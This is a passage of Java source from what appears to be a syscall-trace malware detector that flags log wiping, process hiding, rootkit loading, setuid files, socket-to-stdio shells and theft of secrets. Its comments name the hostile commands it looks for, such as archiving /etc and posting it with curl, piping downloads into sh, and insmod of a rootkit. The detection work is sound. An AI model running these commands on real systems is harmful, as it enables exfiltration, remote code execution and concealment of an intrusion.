            case Syscalls.EXECVEAT -> exec(e, 1, ok);
            case Syscalls.CLONE, Syscalls.CLONE3 -> {
                if (Arguments.hasFlag(e.arguments(), "CLONE_THREAD")) {
                    marks[Feature.ACT_THREADS_LOG.ordinal()]++;
                } else {
                    fork(e, ok);
                }
                if (Arguments.hasFlag(e.arguments(), "CLONE_UNTRACED")) {
                    // a child no tracer may follow (strace -f cannot): nothing in user space needs it but escaping the
                    // monitor; the child's pid is the evidence's return value
                    set(Feature.IND_LOG_TAMPER);
                    note(EvidenceLog.HIGH, e, e.arguments());
                }
            }
            case Syscalls.FORK, Syscalls.VFORK -> fork(e, ok);
            case Syscalls.WAIT4 -> {
                if (ok && e.returnValue() > 0 && forkNode != null) {
                    forkNode.childReaped();
                }
            }
            case Syscalls.MMAP, Syscalls.MPROTECT, Syscalls.PKEY_MPROTECT -> {
                if (Arguments.contains(e.arguments(), 'X')) { // no X anywhere (most mappings): no PROT_EXEC, no scan
                    memory(e, Arguments.nth(e.arguments(), 2), id == Syscalls.MMAP);
                }
            }
            case Syscalls.MEMFD_CREATE -> {
                set(Feature.MEM_MEMFD);
                note(EvidenceLog.HIGH, e, e.arguments());
            }
            case Syscalls.SETUID, Syscalls.SETREUID, Syscalls.SETRESUID, Syscalls.SETFSUID -> privileged(e, ok, Feature.PRIV_SETUID);
            case Syscalls.SETGID, Syscalls.SETREGID, Syscalls.SETRESGID, Syscalls.SETFSGID, Syscalls.SETGROUPS ->
                privileged(e, ok, Feature.PRIV_SETGID);
            case Syscalls.CAPSET -> privileged(e, ok, Feature.PRIV_CAPSET);
            case Syscalls.PTRACE -> ptrace(e, ok);
            case Syscalls.PROCESS_VM_READV, Syscalls.PROCESS_VM_WRITEV -> {
                set(Feature.PATH_PROC_MEM);
                if (Arguments.parseLong(Arguments.nth(e.arguments(), 0)) != leaderTid) {
                    injection();
                }
                note(EvidenceLog.HIGH, e, e.arguments());
            }
            case Syscalls.UNSHARE, Syscalls.SETNS, Syscalls.PIVOT_ROOT, Syscalls.CHROOT -> privileged(e, ok, Feature.PRIV_NAMESPACE);
            case Syscalls.MOUNT -> {
                privileged(e, ok, Feature.PRIV_NAMESPACE);
                if (Indicators.hidesProcess(Arguments.decodeString(Arguments.nth(e.arguments(), 1)))) {
                    set(Feature.IND_MASQUERADE); // mount --bind EMPTY /proc/PID: ps no longer sees PID (done or denied)
                    note(EvidenceLog.HIGH, e, e.arguments());
                }
            }
            case Syscalls.SYSLOG -> {
                int action = Arguments.fd(e.arguments()); // 4 READ_CLEAR, 5 CLEAR: dmesg -c, dmesg -C (done or denied)
                if (action == 4 || action == 5) {
                    set(Feature.IND_LOG_TAMPER);
                    note(EvidenceLog.HIGH, e, e.arguments());
                }
            }
            case Syscalls.INIT_MODULE, Syscalls.FINIT_MODULE -> {
                privileged(e, ok, Feature.PRIV_MODULE);
                String module = id == Syscalls.FINIT_MODULE ? Arguments.fdPath(Arguments.nth(e.arguments(), 0)) : null;
                if (!underPackageTool && Indicators.loadsForeignModule(exeBase, module)) {
                    set(Feature.IND_PERSISTENCE); // insmod /tmp/rootkit.ko, done or refused: a rootkit's way in
                }
            }
            case Syscalls.BPF, Syscalls.KEXEC_LOAD, Syscalls.KEXEC_FILE_LOAD -> privileged(e, ok, Feature.PRIV_MODULE);
            case Syscalls.SETSID -> set(Feature.PROC_SETSID);
            case Syscalls.PRCTL -> {
                if (Arguments.hasFlag(Arguments.nth(e.arguments(), 0), "PR_SET_NAME")) {
                    set(Feature.PROC_RENAME);
                    if (e.pid() == leaderTid && !namedAfterItself(Arguments.decodeString(Arguments.nth(e.arguments(), 1)))) {
                        set(Feature.IND_MASQUERADE); // a thread naming itself is routine; the main thread is the process
                    }
                    note(EvidenceLog.MEDIUM, e, e.arguments());
                }
            }
            case Syscalls.KILL, Syscalls.TKILL, Syscalls.TGKILL, Syscalls.PIDFD_SEND_SIGNAL -> kill(e, id);
            default -> {
                // counted in the frequency profile only
            }
        }
    }

    // ---------------------------------------------------------------- files

    /**
     * @return the decoded path of argument {@code index}, joined to a {@code -yy} dirfd of the argument before;
     *     its {@link String#hashCode()} is left in {@link #pathHash}
     */
    private String path(TraceEvent e, int index) {
        CharSequence args = e.arguments();
        String p = decodePath(Arguments.nth(args, index));
        if (p == null || p.isEmpty() || index == 0) {
            return p;
        }
        if (p.charAt(0) == '/') {
            if (cwd == null) {
                learnWorkingDirectory(args, index);
            }
            return p;
        }
        if (dirPaths == null) {
            dirPaths = new LastDecoded(Arguments::fdPath);
        }
        CharSequence dirfd = Arguments.nth(args, index - 1);
        String dir = dirPaths.decode(dirfd);
        if (dir == null) {
            return p;
        }
        if (isCwd(dirfd)) {
            cwd = dir;
        }
        boolean slash = dir.endsWith("/");
        pathHash = joinedHash(dir, slash, pathHash, p.length());
        return slash ? dir + p : dir + "/" + p;
    }

    /**
     * The hash of a concatenation from its parts': the head's hash (cached in the kept dir String) times 31^(tail
     * length), plus the tail's.
     *
     * @param slash true for {@code dir + tail}, false for {@code dir + "/" + tail}
     * @return {@code (dir + (slash ? "" : "/") + tail).hashCode()} for any tail of that hash and length
     */
    static int joinedHash(String dir, boolean slash, int tailHash, int tailLength) {
        return (slash ? dir.hashCode() : 31 * dir.hashCode() + '/') * pow31(tailLength) + tailHash;
    }

    /** @return 31 to the power {@code k}, in int arithmetic (wrapping as {@link String#hashCode()} does) */
    private static int pow31(int k) {
        int result = 1;
        for (int base = 31; k != 0; k >>>= 1, base *= base) {
            if ((k & 1) != 0) {
                result *= base;
            }
        }
        return result;
    }

    /**
     * {@link Arguments#decodeString(CharSequence)}, hashing the characters of a literal without escapes (nearly
     * every path) while it looks for the closing quote, instead of in a second pass over the new String.
     *
     * @return the decoded string or null; its {@link String#hashCode()} in {@link #pathHash}
     */
    String decodePath(CharSequence literal) {
        int n = literal.length();
        int quote = 0;
        while (quote < n && literal.charAt(quote) != '"') {
            quote++;
        }
        if (quote >= n) {
            return null;
        }
        int h = 0;
        int end = quote + 1;
        for (; end < n; end++) {
            char c = literal.charAt(end);
            if (c == '"') {
                break;
            }
            if (c == '\\') {
                String decoded = Arguments.decodeString(literal);
                pathHash = decoded.hashCode();
                return decoded;
            }
            h = 31 * h + c; // String.hashCode's formula over the same characters
        }
        pathHash = h;
        return literal.subSequence(quote + 1, end).toString();
    }


    /** @param flagsIndex the index of the flags argument, or -1 for creat */
    private void open(TraceEvent e, int pathIndex, int flagsIndex, boolean ok) {
        if (ok && e.hasReturnValue()) {
            if ((imageKind & ExecRules.SHELL) != 0) {
                CharSequence p = Arguments.nth(e.arguments(), pathIndex);
                if (startsWith(p, "\"/dev/fd/") || startsWith(p, "\"/proc/self/fd/")) {
                    sourcedFd = (int) e.returnValue(); // source <(curl URL), or a redirection from one
                }
            }
            if (!readsSecretCopy && flagsIndex >= 0 && familyMade(SECRET_COPY, true) && startsWith(Arguments.nth(e.arguments(), flagsIndex), "O_RDONLY")) {
                String p = path(e, pathIndex);
                readsSecretCopy = p != null && madeInFamily(SECRET_COPY, p); // tar czf x.tgz /etc; curl -F f=@x.tgz URL
                if (readsSecretCopy) {
                    note(EvidenceLog.MEDIUM, e, e.arguments());
                    secretToNetwork(e);
                    if (!readSecret) {
                        readsSecrets(); // cp x.tgz y.tgz, cat x.tgz | nc: what it passes on carries the secret too
                    }
                }
            }
            if (!readsFetched && flagsIndex >= 0 && familyFetched() && startsWith(Arguments.nth(e.arguments(), flagsIndex), "O_RDONLY")) {
                String p = path(e, pathIndex);
                readsFetched = p != null && fetchedInFamily(p); // curl -o x.sh URL; cat x.sh | sh
            }
            if (!fetchedFileOpened && flagsIndex >= 0 && (imageKind & ExecRules.SHELL) == 0 && fetchedText == null
                    && familyMade(FETCHED, true) && startsWith(Arguments.nth(e.arguments(), flagsIndex), "O_RDONLY")) {
                // schema 46: its first read of a download may be lines a child runs (awk '{system($0)}' x); before
                // the exec too: bash -c 'curl -o x URL; awk ... x' runs awk in place
                String p = path(e, pathIndex);
                if (p != null && fetchedInFamily(p)) {
                    fetchedFileOpened = true;
                    fetchedFileFd = (int) e.returnValue();
                }
            }
        }
        OpenMemo memo = null;
        if (flagsIndex >= 0) {
            memo = OpenMemo.get();
            long known = memo.find(e.arguments(), e.syscall());
            if (known != OpenMemo.MISS) { // a read-only open of this very text before: what it did then
                opens++;
                if (!ok) {
                    openFails++;
                }
                if (known != OpenMemo.NO_PATH) {
                    pathHash = (int) known;
                    files().add(pathHash);
                }
                return;
            }
        }
        opens++;
        int flags = OpenFlags.of(flagsIndex < 0 ? null : Arguments.nth(e.arguments(), flagsIndex));
        boolean write = (flags & OpenFlags.WRITES) != 0;
        if ((flags & OpenFlags.TRUNC) != 0) {
            count(Feature.FILE_TRUNCATE_RATE);
            windowDestructive++;
        }
        if (!ok) {
            openFails++;
        }
        if (write) {
            openWrites++;
        }
        String path;
        if (write) {
            path = path(e, pathIndex);
        } else {
            PathBuffer buffer = PathBuffer.get();
            int decoded = buffer.decode(Arguments.nth(e.arguments(), pathIndex));
            if (decoded == PathBuffer.ABSENT) {
                memo.remember(OpenMemo.NO_PATH);
                return;
            }
            if (decoded == PathBuffer.ESCAPED || !joined(e, pathIndex, buffer)) {
                path = path(e, pathIndex);
            } else {
                pathHash = buffer.hash();
                if (!buffer.mayMatchRead()) {
                    files().add(pathHash); // all a read of a path no rule knows does: no String needed
                    memo.remember(OpenMemo.PATH | pathHash & 0xFFFF_FFFFL);
                    return;
                }
                path = buffer.toString();
            }
        }
        if (path == null) {
            return;
        }
        files().add(pathHash); // path.hashCode(), computed while decoding
        int bits = PathRules.classify(path, e.pid());
        boolean append = (flags & OpenFlags.APPEND) != 0 && (flags & OpenFlags.TRUNC) == 0;
        if (write) {
            if (Indicators.writesCpuRegisters(exeBase, path)) {
                set(Feature.IND_CRYPTOMINING); // XMRig's MSR mod: /dev/cpu/N/msr opened for writing, even if denied
                note(EvidenceLog.HIGH, e, e.arguments());
            }
            bits = writtenBits(path, bits);
            openedForWrite(e, path, bits, flags, ok);
            if (ok && (flags & (OpenFlags.CREAT | OpenFlags.NO_ARGUMENT)) != 0) { // NO_ARGUMENT: creat()
                long mode = Arguments.parseLong(Arguments.nth(e.arguments(), flagsIndex < 0 ? 1 : flagsIndex + 1));
                if (mode != Arguments.NOT_A_NUMBER && (mode & 0111) != 0) {
                    impostor(e, path); // cp /usr/bin/x ~/.local/bin/sudo creates it executable: no chmod follows
                }
            }
        } else {
            openedForRead(e, path, bits, (flags & OpenFlags.DIRECTORY) != 0);
        }
        if (bits == 0) {
            return;
        }
        if (write) {
            if (ok) {
                modifiedBits(e, bits, append ? "open-append" : "open");
            }
        } else {
            read(e, bits);
        }
    }

    /** @return the distinct-files sketch, made on first use */
    private DistinctCounter files() {
        if (files == null) {
            files = new DistinctCounter();
        }
        return files;
    }

    /**
     * Joins a relative path in {@code buffer} to its {@code -yy} dirfd as {@link #path} does.
     *
     * @return false when the buffer cannot hold the joined path (then {@link #path} makes it as a String)
     */
    private boolean joined(TraceEvent e, int pathIndex, PathBuffer buffer) {
        if (pathIndex == 0 || buffer.length() == 0 || buffer.absolute()) {
            if (cwd == null && pathIndex > 0 && buffer.length() > 0) {
                learnWorkingDirectory(e.arguments(), pathIndex);
            }
            return true;
        }
        if (dirPaths == null) {
            dirPaths = new LastDecoded(Arguments::fdPath);
        }
        CharSequence dirfd = Arguments.nth(e.arguments(), pathIndex - 1);
        String dir = dirPaths.decode(dirfd);
        if (dir != null && isCwd(dirfd)) {
            cwd = dir;
        }
        return dir == null || buffer.join(dir);
    }

    /**
     * @param name the name a process gave itself ({@code prctl(PR_SET_NAME)}), or null
     * @return true when it is the name of its program or of the script it runs (without extension), alone or
     *     followed by a non-alphanumeric character: node running npm names itself {@code npm} and {@code npm init},
     *     {@code python3 worker.py} {@code worker}; posing as something else ({@code sshd}, {@code [kworker/0:1]})
     *     is what masquerading is
     */
    private boolean namedAfterItself(String name) {
        if (name == null || name.isEmpty()) {
            return false;
        }
        String script = scriptPath == null ? null : scriptPath.substring(scriptPath.lastIndexOf('/') + 1);
        return namedAfter(name, exeBase) || namedAfter(name, script);
    }

    private static boolean namedAfter(String name, String program) {
        if (program == null) {
            return false;
        }
        int dot = program.indexOf('.', 1);
        int n = dot < 0 ? program.length() : dot;
        return n > 0 && name.regionMatches(0, program, 0, n) && (name.length() == n || !Character.isLetterOrDigit(name.charAt(n)));
    }

    /**
     * Takes the working directory from the {@code AT_FDCWD</dir>} before an absolute path, while it is unknown: a
     * process that opens only absolute paths before {@code mkdir("new")} (coreutils' {@code mkdir}, {@code cp -r})
     * would otherwise leave the relative name unresolved. Once known, chdir and fchdir keep it.
     */
    private void learnWorkingDirectory(CharSequence args, int pathIndex) {
        CharSequence dirfd = Arguments.nth(args, pathIndex - 1);
        if (isCwd(dirfd)) {
            if (dirPaths == null) {
                dirPaths = new LastDecoded(Arguments::fdPath);
            }
            String dir = dirPaths.decode(dirfd);
            if (dir != null) {
                cwd = dir;
            }
        }
    }

    /** @return true for a {@code -yy} {@code AT_FDCWD</dir>} argument */
    private static boolean isCwd(CharSequence dirfd) {
        return dirfd.length() > 9 && dirfd.charAt(8) == '<' && dirfd.charAt(0) == 'A' && dirfd.charAt(7) == 'D';
    }

    /** @return a relative path resolved against the working directory when it is known, else the path as it is */
    private String fromWorkingDirectory(String path) {
        return path == null || path.isEmpty() || path.charAt(0) == '/' || cwd == null ? path : PathRules.resolve(cwd, path);
    }

    /** @return true if its family made the directory {@code path} (relative to the working directory) with mkdir */
    private boolean madeDirectoryInFamily(String path) {
        String dir = fromWorkingDirectory(path);
        return dir != null && !dir.isEmpty() && dir.charAt(0) == '/' && madeInFamily(DIRECTORY, PathRules.resolve("/", dir));
    }

    /** mkdir and mkdirat: a directory its family made, kept by its absolute path (when it is known). */
    private void madeDirectory(String path, boolean ok) {
        String dir = fromWorkingDirectory(path);
        if (ok && dir != null && !dir.isEmpty() && dir.charAt(0) == '/') {
            mark(DIRECTORY, key(DIRECTORY, PathRules.resolve("/", dir)));
        }
    }

    /**
     * @param path the file written (created, renamed to, linked, truncated)
     * @param bits its {@link PathRules} groups
     * @return the groups; a home rc file ({@code .bashrc}, {@code .profile}, ...) in a directory its family made during
     *     the trace is an ordinary dot-file ({@link PathRules#HIDDEN}), not {@link PathRules#SHELL_RC}: no login shell
     *     reads it there ({@code cp -r /etc/skel new}, {@code unzip dotfiles.zip}, {@code git clone} of a dotfiles
     *     repository). A home directory that was there before keeps the group, and so do {@code /etc/profile.d/*}
     *     (read once the directory exists), {@code authorized_keys}, cron, systemd and autostart files in new
     *     directories ({@code mkdir -p ~/.ssh})
     */
    private int writtenBits(String path, int bits) {
        if ((bits & PathRules.SHELL_RC) == 0 || path.isEmpty() || path.charAt(0) != '/') {
            return bits;
        }
        String file = PathRules.resolve("/", path);
        int slash = file.lastIndexOf('/');
        boolean homeRc = slash + 1 < file.length() && file.charAt(slash + 1) == '.';
        return homeRc && slash > 0 && madeInFamily(DIRECTORY, file.substring(0, slash))
                ? bits & ~PathRules.SHELL_RC | PathRules.HIDDEN : bits;
    }

    /** chdir and fchdir: the working directory an exec of a relative path is resolved against. */
    private void changedDirectory(TraceEvent e, boolean fd) {
        CharSequence arg = Arguments.nth(e.arguments(), 0);
        String dir = fd ? Arguments.fdPath(arg) : decodePath(arg);
        if (dir == null || dir.isEmpty()) {
            cwd = null; // a chdir we cannot follow (no -y on fchdir): unknown from here on
        } else {
            cwd = dir.charAt(0) == '/' || cwd != null ? fromWorkingDirectory(dir) : null;
        }
    }

    private void read(TraceEvent e, int bits) {
        if ((bits & PathRules.SENSITIVE_READ) != 0) {
            marks[Feature.PATH_SENSITIVE_READ_LOG.ordinal()]++;
            note(EvidenceLog.HIGH, e, e.arguments());
        }
        if ((bits & PathRules.SHADOW) != 0) {
            set(Feature.PATH_SHADOW_READ);
        }
        if ((bits & PathRules.SUDOERS) != 0) {
            set(Feature.PATH_SUDOERS);
        }
        if ((bits & PathRules.SSH_KEY) != 0) {
            set(Feature.PATH_SSH_KEY_READ);
        }
        if ((bits & PathRules.PROC_MEM) != 0) {
            set(Feature.PATH_PROC_MEM);
        }
        if ((bits & PathRules.PROC_OTHER) != 0) {
            marks[Feature.PATH_PROC_SCAN.ordinal()]++;
            note(EvidenceLog.LOW, e, e.arguments());
        }
    }

    private void modified(TraceEvent e, String path, String how) {
        if (path != null && (e.returnValue() >= 0 || !e.hasReturnValue())) {
            int bits = writtenBits(path, PathRules.classify(path, e.pid()));
            modifiedBits(e, bits, how);
            changedIndicators(e, path, bits, how);
        }
    }

    private void modifiedBits(TraceEvent e, int bits, String how) {
        if ((bits & PathRules.SENSITIVE_WRITE) != 0) {
            marks[Feature.PATH_SENSITIVE_WRITE_LOG.ordinal()]++;
            note(EvidenceLog.HIGH, e, e.arguments());
        }
        if ((bits & PathRules.SHADOW) != 0) {
            set(Feature.PATH_SHADOW_WRITE);
        }
        if ((bits & PathRules.PASSWD) != 0) {
            set(Feature.PATH_PASSWD_WRITE);
        }
        if ((bits & PathRules.SUDOERS) != 0) {
            set(Feature.PATH_SUDOERS);
            set(Feature.PATH_SUDOERS_WRITE);
        }
        if ((bits & PathRules.SSH_DIR) != 0) {
            set(Feature.PATH_SSH_WRITE);
        }
        if ((bits & PathRules.CRON) != 0) {
            set(Feature.PATH_CRON_WRITE);
        }
        if ((bits & PathRules.SYSTEMD) != 0) {
            set(Feature.PATH_SYSTEMD_WRITE);
        }
        if ((bits & PathRules.SHELL_RC) != 0) {
            set(Feature.PATH_SHELL_RC_WRITE);
        }
        if ((bits & PathRules.LD_PRELOAD) != 0) {
            set(Feature.PATH_LD_PRELOAD_WRITE);
        }
        if ((bits & PathRules.LOG) != 0 && !how.equals("open-append")) {
            set(Feature.PATH_LOG_TAMPER);
        }
        if ((bits & PathRules.TMP) != 0) {
            marks[Feature.PATH_TMP_WRITE_LOG.ordinal()]++;
        }
        if ((bits & PathRules.HIDDEN) != 0) {
            set(Feature.FILE_HIDDEN_WRITE);
        }
    }

    /** unlink, rmdir ({@code rate} null), the source of a rename, or truncate. */
    private void destructive(TraceEvent e, int pathIndex, Feature rate) {
        if (rate != null) {
            count(rate);
        } else {
            count(Feature.FILE_UNLINK_RATE);
        }
        windowDestructive++;
        String path = path(e, pathIndex);
        modified(e, path, rate == Feature.FILE_TRUNCATE_RATE ? "truncate" : "unlink");
        boolean ok = e.returnValue() >= 0 || !e.hasReturnValue();
        if (!ok && path != null && rate != Feature.FILE_RENAME_RATE && (PathRules.classify(path, e.pid()) & PathRules.LOG) != 0) {
            logChanged(e, path, "unlink"); // rm -f of a history that is not there is still an attempt to wipe it
        }
        if (path != null && ok && (rate == Feature.FILE_UNLINK_RATE || rate == Feature.FILE_RENAME_RATE)) {
            if (!createdHere(path)) {
                foreignFilesDestroyed++;
                if (madeInFamily(STEM, path) && !createdInFamily(path)) {
                    replacedFiles = Math.min(replacedFiles + 1, MAX_COUNT);
                }
            }
            if (path.equals(exePath) || path.equals(scriptPath)) {
                set(Feature.IND_MASQUERADE); // deleted its own executable or script
                note(EvidenceLog.HIGH, e, e.arguments());
            }
        }
    }

    private void chmod(TraceEvent e, String name, CharSequence mode) {
        count(Feature.FILE_CHMOD_RATE);
        String path = fromWorkingDirectory(name); // chmod("x") after a chdir to /tmp is /tmp/x
        long m = Arguments.parseLong(mode);
        if (m != Arguments.NOT_A_NUMBER && (m & 04000) != 0 && okChange(e)) {
            privilegedFile(e); // chmod u+s: whoever runs it runs as the file's owner
        }
        if (m != Arguments.NOT_A_NUMBER && path != null && (m & (0022 | 0005)) != 0) {
            accountFileOpened(e, PathRules.classify(path, e.pid()), m);
        }
        if (m == Arguments.NOT_A_NUMBER || (m & 0111) == 0 || madeDirectoryInFamily(path)) {
            return; // x on a directory lets one enter it (gpg-agent's chmod 0700 of the private-keys-v1.d it made)
        }
        set(Feature.FILE_CHMOD_EXEC);
        impostor(e, path);
        boolean tmp = path != null && (PathRules.classify(path, e.pid()) & PathRules.TMP) != 0;
        if (tmp) {
            set(Feature.PATH_TMP_CHMOD_EXEC);
            note(EvidenceLog.HIGH, e, e.arguments());
        }
        if (path != null && (hidden(path) && !Indicators.versionManagerShim(path) || tmp && !createdInFamily(path)
                || connectedInet && !fetchesByDesign() || fetchedInFamily(path))) {
            set(Feature.IND_STAGED_EXEC); // a hidden file, someone else's file in /tmp, or a download made executable
        }
    }

    /** An executable made under a privilege program's name outside the system's directories: a PATH trap. */
    private void impostor(TraceEvent e, String path) {
        if (path != null && Indicators.privilegeProgramImpostor(fromWorkingDirectory(path)) && !Indicators.Role.PACKAGE.of(exeBase)
                && !underPackageTool) {
            set(Feature.IND_MASQUERADE);
            note(EvidenceLog.HIGH, e, e.arguments());
        }
    }

    /** setxattr, lsetxattr, fsetxattr: {@code security.capability} gives a file capabilities ({@code setcap}). */
    private void fileCapabilities(TraceEvent e, boolean ok) {
        if (ok && "security.capability".equals(Arguments.decodeString(Arguments.nth(e.arguments(), 1)))) {
            privilegedFile(e);
        }
    }

    /**
     * A file made setuid or given capabilities: a way back to privilege for whoever runs it (T1548.001), counted as
     * {@link Feature#IND_PERSISTENCE}; not by package or account tools, nor under a package tool (maintainer scripts)
     */
    private void privilegedFile(TraceEvent e) {
        if (!underPackageTool && !Indicators.Role.PACKAGE.of(exeBase) && !Indicators.Role.ACCOUNT.of(exeBase)) {
            set(Feature.IND_PERSISTENCE);
            note(EvidenceLog.HIGH, e, e.arguments());
        }
    }

    /**
     * chmod of an account file that opens it up, done or denied: /etc/shadow or gshadow readable or writable by others
     * or writable by its group, /etc/passwd, group or sudoers writable by group or others ({@code chmod o+r
     * /etc/shadow}); the modes the system keeps them in (0640, 0644, 0440) do not count
     */
    private void accountFileOpened(TraceEvent e, int bits, long mode) {
        if ((bits & PathRules.SHADOW) != 0 && (mode & 0027) != 0 || (bits & (PathRules.PASSWD | PathRules.SUDOERS)) != 0 && (mode & 0022) != 0) {
            set(Feature.IND_ACCOUNT_TAMPER);
            note(EvidenceLog.HIGH, e, e.arguments());
        }
    }

    private static boolean okChange(TraceEvent e) {
        return e.returnValue() >= 0 || !e.hasReturnValue();
    }

    // ---------------------------------------------------------------- network

    private void socket(TraceEvent e, boolean ok) {
        marks[Feature.NET_SOCKET_LOG.ordinal()]++;
        CharSequence args = e.arguments();
        CharSequence domain = Arguments.nth(args, 0);
        if (Arguments.hasFlag(Arguments.nth(args, 1), "SOCK_RAW") || Arguments.hasFlag(domain, "AF_PACKET")) {
            set(Feature.NET_RAW_SOCKET);
            note(EvidenceLog.MEDIUM, e, args);
        }
        if (ok && e.hasReturnValue() && (Arguments.hasFlag(domain, "AF_INET") || Arguments.hasFlag(domain, "AF_INET6"))) {
            markInetFd(e.returnValue());
        }
    }

    private void connect(TraceEvent e, boolean ok) {
        connects++;
        if (!ok && e.errno() != 115) { // EINPROGRESS: a non-blocking connect under way
            connectFails++;
        }
        String where = endpoint(e, Arguments.nth(e.arguments(), 1), true);
        int colon = where == null ? -1 : where.lastIndexOf(':');
        if (colon > 0 && isInetEndpoint(where) && Indicators.sweptPort(where, colon + 1)) {
            if (sweptHosts == null) {
                sweptHosts = new DistinctCounter();
            }
            sweptHosts.add(where.substring(0, colon).hashCode()); // ssh on 20 hosts of a subnet: a worm's sweep
        }
        if (ok && where != null && Indicators.containerEngineSocket(where) && !Indicators.Role.CONTAINER_CLIENT.of(exeBase)) {
            containerApiFd = Arguments.fd(e.arguments()); // curl --unix-socket /var/run/docker.sock: its requests are read
        }
        if (where != null && isInetEndpoint(where)) {
            if (ok && where.endsWith(":53")) {
                // its peer is a name server: what dnsQuery reads from -yy's decoration, which names only the socket's
                // inode when strace runs outside the program's network namespace (a container's, unshare -n)
                udpPeerFd = Arguments.fd(e.arguments());
                udpPeerIsDns = true;
            }
            set(Feature.NET_CONNECT_INET);
            if (ok || e.errno() == 115) {
                if (!connectedInet) {
                    fetchedBeforeConnect();
                }
                connectedInet = true;
                secretToNetwork(e); // it may connect after its first read of stdin
                markInetFd(Arguments.fd(e.arguments()));
                if (handTool && Indicators.metadataEndpoint(where)) {
                    metadataFd = Arguments.fd(e.arguments());
                }
                familyOnline();
                publishOnlinePipe();
            }
            note(EvidenceLog.MEDIUM, e, String.valueOf(Arguments.fd(e.arguments())), where); // joined only if the log may keep it
        }
    }

    /** Counts an endpoint in the sketches; returns it, or null if the argument is not an address. */
    private String endpoint(TraceEvent e, CharSequence sockaddr, boolean countPort) {
        String where = socketAddress(sockaddr);
        if (where == null) {
            return null;
        }
        if (endpoints == null) {
            endpoints = new DistinctCounter();
        }
        endpoints.add(where.hashCode());
        int colon = where.lastIndexOf(':');
        if (countPort && colon > 0) {
            int port = 0; // the hashCode of the text after the colon, without cutting it out
            for (int i = colon + 1; i < where.length(); i++) {
                port = 31 * port + where.charAt(i);
            }
            if (ports == null) {
                ports = new DistinctCounter();
            }
            ports.add(port);
        }
        return where;
    }

    private String socketAddress(CharSequence sockaddr) {
        if (socketAddresses == null) {
            socketAddresses = new LastDecoded(Arguments::socketAddress);
        }
        return socketAddresses.decode(sockaddr);
    }

    private static boolean isInetEndpoint(String where) {
        char c = where.charAt(0);
        return c == '[' || c >= '0' && c <= '9';
    }

    private void bind(TraceEvent e, boolean ok) {
        String where = socketAddress(Arguments.nth(e.arguments(), 1));
        if (where != null && isInetEndpoint(where)) {
            marks[Feature.NET_BIND_COUNT.ordinal()]++;
            note(EvidenceLog.LOW, e, String.valueOf(Arguments.fd(e.arguments())), where);
        } else if (ok && where != null && !where.isEmpty() && where.charAt(0) != '@' && !where.startsWith("AF_")) {
            markCreated(fromWorkingDirectory(where), false); // bind made the socket file: its own to chmod or unlink
        }
    }

    private void dup(TraceEvent e, boolean ok) {
        CharSequence args = e.arguments();
        CharSequence from = Arguments.nth(args, 0);
        int to = Arguments.fd(Arguments.nth(args, 1));
        if (sourcedFd >= 0 && Arguments.fd(from) == sourcedFd) {
            sourcedFd = -1; // done < <(cmd): a redirection, not a script
        }
        boolean inet = isInetSocket(from) || isMarkedInet(Arguments.fd(from));
        if (!ok || to < 0) {
            return;
        }
        if (to == udpPeerFd) {
            udpPeerFd = -1;
        }
        if (to == 0) {
            CharSequence decoration = Arguments.fdDecoration(from);
            stdinNotTerminal = notTerminal(decoration); // cat f | sh -i: the pipe made fd 0 before the exec
            stdinPipe = pipeInode(decoration);
            stdinOwn = true;
            String file = stdinPipe == 0 && familyFetched() ? Arguments.fdPath(from) : null;
            stdinFetched = file != null && fetchedInFamily(file); // sh < x.sh
            if (stdinFetched || (parentConnected || parentAccepted) && stdinNotTerminal) {
                note(EvidenceLog.MEDIUM, e, args); // a download on its stdin; a connected relay's socketpair or pipe
            }
        } else if (to == 1) {
            stdoutPipe = pipeInode(Arguments.fdDecoration(from)); // curl URL | sh: curl's end, before its exec
            publishOnlinePipe();
        }
        if (inet) {
            markInetFd(to);
            if (to <= 2) {
                set(Feature.NET_DUP_SOCKET_TO_STDIO);
                note(EvidenceLog.HIGH, e, Arguments.fd(from) + ", " + to);
            }
        } else {
            unmarkInetFd(to);
        }
    }

    private void stdioSocketIo(TraceEvent e) {
        int fd0 = Arguments.fd(e.arguments()); // the first argument's leading digits: the same fd as below
        if (scriptFromFd && scriptPipe == 0 && fd0 > 2 && isRead(e.syscall())) {
            scriptPipe = pipeInode(Arguments.fdDecoration(Arguments.nth(e.arguments(), 0))); // bash reads it as fd 255
        }
        if ((imageKind & ExecRules.SHELL) != 0 && fd0 > 2 && e.syscall() == Syscalls.READ && (fd0 == sourcedFd || decoratedAsPipe(e.arguments()))) {
            shellReadsPipe(e, fd0); // a shell's reads of its script or of a file: one look at the decoration's first bytes
        }
        if (fd0 < 0 || fd0 > 2) {
            return; // most reads and writes: not stdio, nothing more to decode
        }
        CharSequence fdArg = Arguments.nth(e.arguments(), 0);
        int fd = Arguments.fd(fdArg);
        if (fd >= 0 && fd <= 2 && (isInetSocket(fdArg) || isMarkedInet(fd)) && marks[Feature.NET_STDIO_SOCKET_IO.ordinal()] == 0) {
            set(Feature.NET_STDIO_SOCKET_IO);
            note(EvidenceLog.HIGH, e, fd + "<" + Arguments.fdDecoration(fdArg) + ">, ...");
        }
        if (fd == 0 && commandShell && !stdinNotTerminal && isRead(e.syscall()) && notTerminal(Arguments.fdDecoration(fdArg))) {
            stdinNotTerminal = true;
            note(EvidenceLog.HIGH, e, "0<" + Arguments.fdDecoration(fdArg) + ">, ..."); // an interactive shell reading a pipe
        }
        if (fd == 0 && isRead(e.syscall())) {
            if (stdinPipe == 0) {
                stdinPipe = pipeInode(Arguments.fdDecoration(fdArg)); // a pipe it inherited: its read shows it
            }
            stdinOwn = true;
            if (!stdinTextSeen && e.syscall() == Syscalls.READ && e.returnValue() > 0 && (imageKind & ExecRules.SHELL) == 0) {
                readsFetchedStdin(e);
            }
            secretToNetwork(e);
            if (!readSecret && familySecretPipe(stdinPipe)) {
                readsSecrets(); // gzip behind tar czf x.tgz /etc: it made x.tgz, what it writes there is the secret
            }
            if (programFromStdin && !programReadNoted) {
                programReadNoted = true;
                note(EvidenceLog.MEDIUM, e, e.arguments()); // what curl URL | sh, sh < x.sh ran: the start of its program
            }
        } else if (fd == 1 && !isRead(e.syscall())) {
            if (stdoutPipe == 0) {
                stdoutPipe = pipeInode(Arguments.fdDecoration(fdArg));
            }
            publishOnlinePipe(); // curl | base64 -d | sh: the middle one once its input proved to be online
            publishSecretPipe();
        }
    }

    /** @return true when the first argument is a descriptor decorated as a pipe: {@code 3<pipe:[N]>} */
    private static boolean decoratedAsPipe(CharSequence args) {
        int i = decorationStart(args);
